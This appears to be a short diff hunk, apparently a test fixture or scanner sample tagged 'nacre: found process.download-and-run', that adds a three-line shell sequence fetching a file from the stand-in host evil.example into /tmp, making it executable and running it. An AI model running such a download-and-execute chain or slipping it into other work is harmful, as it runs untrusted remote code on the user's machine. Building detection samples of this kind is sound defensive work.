@@ -1,0 +1,4 @@
+# nacre: found process.download-and-run
+wget https://evil.example/x -O /tmp/x
+chmod +x /tmp/x
+/tmp/x
